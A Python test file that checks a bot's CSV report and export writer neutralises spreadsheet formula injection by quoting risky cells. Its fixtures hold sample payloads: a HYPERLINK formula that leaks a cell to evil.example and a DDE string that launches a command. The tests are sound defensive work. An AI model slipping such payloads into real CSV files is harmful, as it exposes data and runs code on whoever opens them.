"""Every CSV the product writes goes through one writer, which no spreadsheet can run.

A report's CSV (``month --by key --format csv``) wrote an API key named
``=HYPERLINK(…)`` as a live formula while ``export`` escaped it: two writers,
two rules. Now both are :func:`bot.csvfile.csv_text`.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import update

from bot.csvfile import csv_text, safe_cell
from bot.exports import build_export, export_csv
from bot.render import report_csv
from bot.reports import Period, build_report
from storage.models import ApiKeyName, DailyCost, ModelSeen, WorkspaceDailyTotal
from tests.fakes.connections import connect_demo

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
EVIL_MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _month(clock) -> Period:
    today = clock.now.date()
    return Period("month", today.replace(day=1), today, f"{today:%B %Y} to date")


@pytest.fixture
def evil_names(db, engine, workspace_id):
    """The demo team, with its API keys and one model named as formulas."""
    connect_demo(engine, workspace_id, 10, label="-2+3")
    with db.transaction() as session:
        session.execute(update(ApiKeyName).values(name=LINK))
        for table in (DailyCost, WorkspaceDailyTotal, ModelSeen):
            session.execute(
                update(table).where(table.model.like("%grok-3-mini%")).values(model=EVIL_MODEL)
            )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("by", ["key", "model", "connection"])
def test_a_report_csv_runs_no_formula(db, evil_names, workspace_id, clock, by) -> None:
    with db.session() as session:
        report = build_report(session, workspace_id, _month(clock), by, now=clock.now)
    cells = _cells(report_csv(report))
    shown = {"key": "'" + LINK, "model": "'" + EVIL_MODEL, "connection": "'-2+3"}[by]
    assert shown in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_an_export_csv_runs_no_formula(db, evil_names, workspace_id, clock) -> None:
    with db.session() as session:
        report = build_report(session, workspace_id, _month(clock), "model", now=clock.now)
        cells = _cells(export_csv(build_export(session, workspace_id, report)))
    assert "'" + LINK in cells and "'" + EVIL_MODEL in cells and "'-2+3" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_figures_are_written_as_they_are_and_words_are_neutralised() -> None:
    text = csv_text(
        ("day", "label", "cost_usd"),
        [(date(2026, 11, 1), "=1+1", "-1.50"), (date(2026, 11, 2), "grok-4", "")],
        figures=("day", "cost_usd"),
    )
    assert text == "day,label,cost_usd\r\n2026-11-01,'=1+1,-1.50\r\n2026-11-02,grok-4,\r\n"
    assert csv_text(("a",), [("x",)], line_end="\n") == "a\nx\n"


@pytest.mark.parametrize("evil", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(evil: str) -> None:
    assert safe_cell(evil + "x") == "'" + evil + "x"
    assert safe_cell("grok-4") == "grok-4"
